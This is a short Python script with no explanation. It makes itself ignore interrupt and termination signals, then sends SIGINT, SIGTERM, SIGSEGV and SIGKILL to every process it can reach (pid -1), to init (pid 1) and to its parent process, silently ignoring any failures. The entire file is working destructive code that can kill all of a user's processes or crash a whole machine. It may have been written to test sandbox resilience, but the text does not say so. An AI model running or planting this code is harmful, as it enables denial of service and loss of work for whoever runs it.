import os
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGSEGV, signal.SIGKILL):
    for pid in (-1, 1, (os.getppid() or 1)):
        try:
            os.kill(pid, number)
        except OSError:
            pass
